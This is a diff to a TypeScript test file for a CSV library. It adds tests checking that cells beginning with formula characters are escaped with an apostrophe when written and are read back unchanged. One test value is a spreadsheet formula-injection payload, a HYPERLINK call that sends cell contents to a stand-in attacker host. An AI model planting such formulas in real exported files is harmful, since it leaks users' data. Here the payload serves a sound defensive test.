@@ -9,7 +9,7 @@ function reference(text: string): string[][] {
   return parseReference(text, { bom: true, skip_empty_lines: true, trim: true });
 }
 
-const cell = fc.string({ unit: fc.constantFrom("a", "é", "🐈", " ", ",", '"', "\n", "7", "="), maxLength: 6 });
+const cell = fc.string({ unit: fc.constantFrom("a", "é", "🐈", " ", ",", '"', "\n", "7"), maxLength: 6 });
 
 describe("a CSV file", () => {
   const CASES: [string, string, string[][]][] = [
@@ -79,5 +79,18 @@ describe("a CSV file", () => {
         expect(read).to.deep.equal(reference(text));
       }),
     );
+  });
+
+  for (const formula of ['=HYPERLINK("https://evil.example?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1"]) {
+    it(`is written so that a spreadsheet runs no ${JSON.stringify(formula)}, and is read as it was`, () => {
+      const file = csvLine(["name", formula]);
+      const [, cell = ""] = reference(file)[0] ?? [];
+      expect(cell).to.match(/^'/);
+      expect(parseCsv(file)[0]?.cells).to.deep.equal(["name", formula]);
+    });
+  }
+
+  it("keeps an apostrophe before anything else", () => {
+    expect(parseCsv("'tis,a'=b,'")[0]?.cells).to.deep.equal(["'tis", "a'=b", "'"]);
   });
 });
